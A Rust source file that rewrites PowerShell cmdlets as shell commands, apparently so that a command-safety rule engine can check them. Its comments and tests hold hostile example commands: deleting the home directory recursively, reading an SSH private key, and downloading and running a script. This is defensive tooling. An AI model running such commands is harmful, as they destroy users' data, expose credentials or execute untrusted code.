//! PowerShell code read as the shell commands it amounts to: its cmdlets
//! and their aliases that delete, read, copy, write, download or start
//! programs (`Remove-Item -Recurse -Force ~` is `rm -r -f ~`, `gc
//! $HOME\.ssh\id_rsa` is `cat ~/.ssh/id_rsa`, `iwr URL -OutFile F` is `curl
//! URL -o F`, `Start-Process sh -ArgumentList '-c','…'` is `sh -c …`), so
//! that the rules judge them as they judge the same on a shell line.
//! Cmdlets this table does not name are left to the code rules (network
//! use, `Invoke-Expression` of a download).

/// What a cmdlet is, as a shell program.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Cmdlet {
    Remove,
    Read,
    Copy,
    Move,
    Fetch,
    Write { append: bool },
    Start,
}

fn cmdlet(name: &str) -> Option<Cmdlet> {
    Some(match name.to_ascii_lowercase().as_str() {
        "remove-item" | "rm" | "del" | "erase" | "ri" | "rd" | "rmdir" => Cmdlet::Remove,
        "get-content" | "gc" | "cat" | "type" => Cmdlet::Read,
        "copy-item" | "cp" | "copy" | "cpi" => Cmdlet::Copy,
        "move-item" | "mv" | "move" | "mi" => Cmdlet::Move,
        "invoke-webrequest" | "iwr" | "curl" | "wget" | "invoke-restmethod" | "irm" => {
            Cmdlet::Fetch
        }
        "set-content" | "sc" | "out-file" => Cmdlet::Write { append: false },
        "add-content" | "ac" => Cmdlet::Write { append: true },
        "start-process" | "saps" | "start" => Cmdlet::Start,
        _ => return None,
    })
}

/// The shell command lines the code's statements amount to.
pub(crate) fn commands(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for statement in statements(text) {
        let words = tokens(statement);
        let Some((first, rest)) = words.split_first() else {
            continue;
        };
        let Some(kind) = cmdlet(&unquote(first)) else {
            continue;
        };
        if let Some(line) = translate(kind, rest) {
            out.push(line);
        }
        if out.len() > 32 {
            break;
        }
    }
    out
}

/// One statement's parameters and operands as a shell command.
fn translate(kind: Cmdlet, words: &[String]) -> Option<String> {
    let mut flags: Vec<&str> = Vec::new();
    let mut operands: Vec<String> = Vec::new();
    let mut named: Vec<(String, String)> = Vec::new();
    let mut k = 0;
    while k < words.len() {
        let w = &words[k];
        if let Some(p) = w
            .strip_prefix('-')
            .filter(|p| p.chars().next().is_some_and(|c| c.is_ascii_alphabetic()))
        {
            let p = p.trim_end_matches(':').to_ascii_lowercase();
            let is = |full: &str, min: usize| p.len() >= min && full.starts_with(p.as_str());
            if is("recurse", 1) {
                flags.push("-r");
            } else if p == "f" || is("force", 2) {
                flags.push("-f");
            } else if is("whatif", 2) || is("confirm", 2) || is("raw", 2) || is("passthru", 2) {
                // Switches that change nothing here.
            } else if let Some(v) = words.get(k + 1) {
                named.push((p, v.clone()));
                k += 1;
            }
        } else {
            operands.push(w.clone());
        }
        k += 1;
    }
    let value = |names: &[(&str, usize)]| -> Option<String> {
        named.iter().find_map(|(p, v)| {
            names
                .iter()
                .any(|(full, min)| p.len() >= *min && full.starts_with(p.as_str()))
                .then(|| v.clone())
        })
    };
    let path = value(&[("path", 1), ("literalpath", 1), ("lp", 2), ("filepath", 2)]);
    let mut files: Vec<String> = path.into_iter().chain(operands.clone()).collect();
    let line = |program: &str, flags: &[&str], files: &[String]| {
        let mut parts = vec![program.to_string()];
        parts.extend(flags.iter().map(|f| f.to_string()));
        parts.extend(files.iter().map(|f| shell_word(f)));
        parts.join(" ")
    };
    Some(match kind {
        Cmdlet::Remove => line("rm", &flags, &files),
        Cmdlet::Read => line("cat", &[], &files),
        Cmdlet::Copy | Cmdlet::Move => {
            if let Some(d) = value(&[("destination", 1)]) {
                files.push(d);
            }
            let program = if kind == Cmdlet::Copy { "cp" } else { "mv" };
            line(program, &flags, &files)
        }
        Cmdlet::Fetch => {
            let mut parts = vec!["curl".to_string()];
            parts.extend(value(&[("uri", 1)]).iter().map(|u| shell_word(u)));
            parts.extend(operands.iter().map(|u| shell_word(u)));
            if let Some(f) = value(&[("outfile", 1)]) {
                parts.push(format!("-o {}", shell_word(&f)));
            }
            if let Some(f) = value(&[("infile", 2)]) {
                parts.push(format!("--data-binary @{}", shell_word(&f)));
            }
            parts.join(" ")
        }
        Cmdlet::Write { append } => {
            let tee = if append { "tee -a" } else { "tee" };
            line(tee, &[], &files)
        }
        Cmdlet::Start => {
            let program = files.first()?.clone();
            let mut parts = vec![shell_word(&program)];
            if let Some(a) = value(&[("argumentlist", 1), ("args", 4)]) {
                // `-ArgumentList '-c','cmd'` or one string of arguments.
                let list: Vec<String> = a.split(',').map(unquote).collect();
                if list.len() > 1 {
                    parts.extend(list.iter().map(|w| shell_word(w)));
                } else {
                    parts.push(unquote(&a));
                }
            }
            parts.extend(operands.iter().skip(1).map(|w| shell_word(w)));
            parts.join(" ")
        }
    })
}

/// A PowerShell word as a shell word: quotes removed, the home directory
/// (`~`, `$HOME`, `$env:USERPROFILE`) as `~`, `\` as `/`.
fn shell_word(w: &str) -> String {
    let w = unquote(w).replace('\\', "/");
    let lower = w.to_ascii_lowercase();
    for home in [
        "${env:userprofile}",
        "$env:userprofile",
        "${env:home}",
        "$env:home",
        "${home}",
        "$home",
        "~",
    ] {
        if lower.starts_with(home) {
            let rest = &w[home.len()..];
            if rest.is_empty() || rest.starts_with('/') {
                return if rest.is_empty() {
                    "~".to_string()
                } else {
                    format!("~/'{}'", rest[1..].replace('\'', r"'\''"))
                };
            }
        }
    }
    format!("'{}'", w.replace('\'', r"'\''"))
}

fn unquote(w: &str) -> String {
    let t = w.trim();
    for q in ['\'', '"'] {
        if t.len() >= 2 && t.starts_with(q) && t.ends_with(q) {
            return t[1..t.len() - 1].to_string();
        }
    }
    t.to_string()
}

/// The statements of the code: split at `;`, `|`, newlines, braces and
/// parentheses outside quotes.
fn statements(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut quote: Option<char> = None;
    let mut start = 0;
    for (i, c) in text.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, ';' | '|' | '\n' | '{' | '}' | '(' | ')') => {
                out.push(&text[start..i]);
                start = i + c.len_utf8();
            }
            _ => {}
        }
    }
    out.push(&text[start..]);
    out
}

/// The words of a statement, split at white space outside quotes; `,`
/// joins a list (`'-c','cmd'`).
fn tokens(statement: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut word = String::new();
    let mut quote: Option<char> = None;
    for c in statement.chars() {
        match (quote, c) {
            (Some(q), c) if c == q => {
                quote = None;
                word.push(c);
            }
            (Some(_), c) => word.push(c),
            (None, '"' | '\'') => {
                quote = Some(c);
                word.push(c);
            }
            (None, c) if c.is_whitespace() => {
                if !word.is_empty() && !word.ends_with(',') {
                    out.push(std::mem::take(&mut word));
                }
            }
            (None, c) => word.push(c),
        }
    }
    if !word.is_empty() {
        out.push(word);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cmdlets_read_as_shell_commands() {
        assert_eq!(commands("Remove-Item -Recurse -Force ~"), ["rm -r -f ~"]);
        assert_eq!(commands("rm -r -fo $HOME"), ["rm -r -f ~"]);
        assert_eq!(
            commands("Get-Content $env:USERPROFILE\\.ssh\\id_rsa | Out-String"),
            ["cat ~/'.ssh/id_rsa'"]
        );
        assert_eq!(
            commands("iwr https://x.invalid/a -OutFile a.ps1; ./a.ps1"),
            ["curl 'https://x.invalid/a' -o 'a.ps1'"]
        );
        assert_eq!(
            commands("Start-Process sh -ArgumentList '-c','id'"),
            ["'sh' '-c' 'id'"]
        );
        assert!(commands("Write-Host hello; Get-ChildItem").is_empty());
    }
}
